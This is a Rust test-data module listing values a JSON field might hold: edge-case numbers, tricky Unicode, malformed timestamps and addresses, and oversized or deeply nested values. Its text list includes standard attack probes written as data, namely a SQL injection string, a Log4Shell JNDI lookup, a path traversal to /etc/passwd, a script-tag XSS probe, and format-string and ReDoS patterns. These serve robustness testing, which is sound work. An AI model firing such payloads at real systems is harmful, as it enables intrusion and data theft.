//! What a field may hold.

/// One of each JSON type, and its smallest.
pub(super) const OF_OTHER_TYPES: [&str; 11] =
    ["null", "true", "false", "0", "-1", "1.5", r#""""#, r#""text""#, "[]", "{}", r#"[{"a":[null,"b"]}]"#];

/// Numbers at the ends of their types, and beyond.
pub(super) const NUMBERS: [&str; 18] = [
    "9223372036854775807",
    "-9223372036854775808",
    "9223372036854775808",
    "-9223372036854775809",
    "18446744073709551615",
    "9007199254740993",
    "123456789012345678901234567890",
    "-0",
    "-0.0",
    "1.0",
    "1e3",
    "1E+2",
    "1.7976931348623157e308",
    "1e309",
    "-1e400",
    "5e-324",
    "1e-400",
    "0.30000000000000004",
];

/// Numbers that take long to read.
pub(super) fn numbers_with_many_digits() -> [String; 3] {
    let digits = "1234567890".repeat(100);
    [digits.clone(), format!("0.{digits}"), format!("1{}e-1000", "0".repeat(1_000))]
}

/// Texts that are something else to somebody: control characters, other writings, times, numbers, addresses, code.
pub(super) const TEXTS: [&str; 50] = [
    "\0",
    "before\0after",
    "\u{1}\u{7}\u{8}\t\n\u{b}\u{c}\r\u{1b}[2J\u{7f}",
    "\u{80}\u{85}\u{9f}",
    "\u{feff}text",
    "\u{200b}\u{200d}\u{2060}",
    "\u{202e}txet",
    "\u{2028}\u{2029}",
    "\u{fffd}\u{fffe}\u{ffff}",
    "\u{10ffff}",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "İıſKß",
    "ﷺ",
    " ",
    "\t\r\n",
    " text ",
    "\"",
    "\\",
    "{}",
    "[]",
    "null",
    "true",
    "NaN",
    "Infinity",
    "-0",
    " 7 ",
    "0x7f",
    "1e999",
    "9223372036854775808",
    "1_000",
    "10000-01-01T00:00:00Z",
    "0000-01-01T00:00:00Z",
    "1969-12-31T23:59:59.999999999Z",
    "2026-02-29T00:00:00Z",
    "2016-12-31T23:59:60Z",
    "2026-01-01T00:00:00+25:61",
    "2026-01-01T24:00:00Z",
    "yesterday",
    "999.1.1.1",
    "::ffff:192.0.2.1",
    "fe80::1%eth0",
    "192.0.2.1/24",
    "192.0.2.1:80",
    "%s%n{}{0}${x}",
    "'; drop table events; --",
    "${jndi:ldap://example.com/x}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "(a+)+$",
];

/// Texts by their escapes, which a JSON library would not write.
pub(super) const ESCAPED_TEXTS: [&str; 4] =
    [r#""\u0041\u00e4\u20ac""#, r#""\ud83c\udf89""#, r#""\/\b\f\n\r\t\"\\""#, r#""\uDBFF\uDFFF\uFFFF""#];

/// Values of hundreds of kilobytes, and one of `depth` arrays in each other.
pub(super) fn long(depth: usize) -> Vec<String> {
    let list = |item: &str, count: usize| vec![item; count].join(",");
    let members: Vec<String> = (0..20_000).map(|n| format!("\"k{n}\":{n}")).collect();
    vec![
        format!("\"{}\"", "x".repeat(100_000)),
        format!("\"{}\"", "ä".repeat(200_000)),
        format!("\"{}!\"", "a".repeat(900_000)),
        format!("\"{}\"", "\\u0001".repeat(50_000)),
        format!("\"{}\"", "a.".repeat(50_000)),
        format!("\"{}\"", "(".repeat(50_000)),
        format!("[{}]", list("0", 100_000)),
        format!("[{}]", list("{}", 50_000)),
        format!("{{{}}}", members.join(",")),
        format!("{}{}", "[".repeat(depth), "]".repeat(depth)),
    ]
}

/// Times of records: the ends of what 64 bits of nanoseconds hold, before 1970, and back again.
pub(super) const TIMES_NS: [i64; 8] =
    [1_795_250_700_000_000_000, -1, i64::MIN, i64::MIN + 1, i64::MAX, i64::MAX - 1, 1, 0];
